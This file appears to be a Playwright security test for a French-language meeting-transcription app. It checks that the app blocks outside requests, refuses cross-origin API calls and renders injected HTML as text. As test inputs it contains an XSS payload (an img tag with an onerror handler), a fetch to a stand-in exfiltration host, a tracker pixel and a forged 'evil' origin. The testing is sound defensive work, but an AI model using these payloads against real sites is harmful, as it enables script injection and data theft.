import { dirname } from 'node:path';
import { expect, test, type Page } from '@playwright/test';
import { expectAccessible, expectFrenchOnly } from './a11y.js';
import { launchChromium, openApp, setup, startDevhost, type Devhost } from './harness.js';
import {
  AskPage,
  MeetingPage,
  RecordPage,
  SettingsPage,
  Shell,
  UnlockPage,
  screenshot as picture,
} from './pages.js';

/** Every French screen pictured here is also checked by axe and scanned for English. */
async function screenshot(page: Page, name: string): Promise<void> {
  await expectAccessible(page, name);
  await expectFrenchOnly(page, name);
  await picture(page, name);
}

const PASSPHRASE = 'séance à huis clos';
const INJECTED = '<img src=x onerror="window.__pwned = 1">';

/**
 * The page is hostile-content-proof: a French system gets the French UI, the
 * page has no Node, requests to the outside are refused and logged, and HTML
 * inside a transcript stays text. Screenshots of every screen in French.
 */
test.describe('security, in Chromium, on a French system', () => {
  let host: Devhost;

  test.afterEach(async () => {
    await host?.stop();
  });

  test('no Node, no network, transcript HTML rendered as text', async () => {
    const s = setup();
    host = await startDevhost({ locale: 'fr' });
    const browser = await launchChromium(s.meetingWav);
    try {
      const { page } = await openApp(browser, host);
      await expect(page.locator('html')).toHaveAttribute('lang', 'fr');
      await expect(page.getByRole('heading', { name: 'Créer votre coffre' })).toBeVisible();
      await screenshot(page, 'fr-unlock-create');

      // 1. No Node in the page.
      const globals = await page.evaluate(() => ({
        require: typeof (globalThis as Record<string, unknown>).require,
        process: typeof (globalThis as Record<string, unknown>).process,
        module: typeof (globalThis as Record<string, unknown>).module,
      }));
      expect(globals).toEqual({ require: 'undefined', process: 'undefined', module: 'undefined' });

      await new UnlockPage(page).createVault(PASSPHRASE);
      await screenshot(page, 'fr-first-start');

      // 2. A request to the outside is refused by the CSP and lands in the blocked-request log.
      const outcome = await page.evaluate(() =>
        fetch('https://exfil.example.net/steal?words=budget').then(
          () => 'reached',
          (error: Error) => `blocked: ${error.name}`,
        ),
      );
      expect(outcome).toMatch(/^blocked/);
      // (Strings: this code runs in the page, whose DOM types the Node test config lacks.)
      await page.evaluate(
        "{ const img = document.createElement('img'); img.id = 'tracker'; img.src = 'http://tracker.example.org/pixel.png'; document.body.append(img); }",
      );
      const shell = new Shell(page);
      await shell.go('settings');
      const settings = new SettingsPage(page);
      await expect(settings.blockedLog()).toContainText('exfil.example.net');
      await expect(settings.blockedLog()).toContainText('tracker.example.org');
      await page.evaluate("document.getElementById('tracker').remove()");
      // The devhost refuses a page of another origin that tries the API, and logs it.
      const foreign = await fetch(`${host.origin}/api/call`, {
        method: 'POST',
        headers: { origin: 'http://evil.example', 'content-type': 'application/json' },
        body: JSON.stringify({ name: 'app.status', input: {} }),
      });
      expect(foreign.status).toBe(403);
      await shell.go('meetings');
      await shell.go('settings');
      await expect(settings.blockedLog()).toContainText('http://evil.example');

      await settings.importModels(dirname(s.models.whisper));
      await screenshot(page, 'fr-settings-blocked');

      // 3. HTML typed into a transcript line is shown as the characters typed.
      await shell.go('record');
      const record = new RecordPage(page);
      await record.addSpeaker('Mme la Présidente');
      await record.start(`Réunion ${INJECTED}`);
      await expect(record.liveLines().first()).toBeVisible();
      await screenshot(page, 'fr-record');
      await record.stop();
      const meeting = new MeetingPage(page);
      await expect(meeting.segments().first()).toBeVisible({ timeout: 120_000 });
      const first = meeting.segments().first();
      await first.getByRole('button', { name: /Modifier/ }).click();
      await first.locator('textarea').fill(`Le budget ${INJECTED} est voté.`);
      await first.getByRole('button', { name: 'Enregistrer' }).click();
      await expect(first.locator('.text')).toHaveText(`Le budget ${INJECTED} est voté.`);
      await expect(page.getByRole('heading', { level: 1 })).toHaveText(`Réunion ${INJECTED}`);
      expect(await page.locator('[data-testid="transcript"] img, h1 img').count()).toBe(0);
      expect(await page.evaluate('typeof window.__pwned')).toBe('undefined');
      await expect(meeting.minutes().locator('h3').first()).toBeVisible({ timeout: 180_000 });
      await screenshot(page, 'fr-meeting');
      const md = await meeting.export('md');
      expect(md.bytes.toString('utf8')).toContain('\\<img src=x onerror="window.\\_\\_pwned = 1">');

      await shell.go('meetings');
      await expect(page.locator('[data-meeting-id]')).toHaveCount(1);
      await screenshot(page, 'fr-meetings');

      await shell.go('ask');
      const ask = new AskPage(page);
      await ask.askTyped('Quel est le budget ?');
      await expect(ask.answer().or(page.getByRole('alert'))).toBeVisible({ timeout: 120_000 });
      await screenshot(page, 'fr-ask');

      // Locking wipes the keys: the unlock screen comes back, and only the passphrase opens it.
      await page.getByTestId('lock').click();
      const unlock = new UnlockPage(page);
      await expect(page.getByRole('heading', { name: 'Déverrouiller le coffre' })).toBeVisible();
      await screenshot(page, 'fr-unlock');
      await unlock.unlock('pas la bonne phrase');
      await expect(page.getByRole('alert')).toContainText('Phrase secrète incorrecte');
      await unlock.unlock(PASSPHRASE);
      await expect(page.locator('[data-screen="meetings"] [data-meeting-id]')).toHaveCount(1);

      // Deleting asks twice, then the meeting is gone for good.
      await page.locator('[data-meeting-id] button.meeting-link').click();
      await page.getByRole('button', { name: 'Supprimer cette réunion' }).click();
      await page.getByRole('button', { name: 'Supprimer définitivement' }).click();
      await expect(page.locator('[data-screen="meetings"]')).toBeVisible();
      await expect(page.locator('[data-meeting-id]')).toHaveCount(0);
    } finally {
      await browser.close();
    }
  });
});
